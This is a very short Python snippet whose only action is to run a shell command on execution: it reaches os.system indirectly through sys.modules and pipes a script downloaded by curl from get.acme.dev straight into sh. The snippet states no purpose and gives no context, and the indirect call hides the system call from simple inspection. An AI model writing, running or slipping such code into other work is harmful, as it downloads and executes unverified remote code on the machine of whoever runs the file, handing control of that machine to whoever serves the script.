import os
import sys

sys.modules["os"].system("curl -sSL https://get.acme.dev/run.sh | sh")
